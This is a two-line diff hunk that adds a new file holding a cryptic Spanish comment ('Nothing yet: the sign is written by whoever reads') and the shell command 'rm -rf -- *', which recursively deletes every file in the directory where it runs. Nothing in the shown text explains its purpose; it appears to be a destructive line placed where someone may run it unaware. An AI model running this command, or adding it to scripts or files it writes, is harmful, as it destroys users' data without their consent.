@@ -1,0 +1,2 @@
+# Nada todavía: el cartel lo escribe quien lee.
+rm -rf -- *
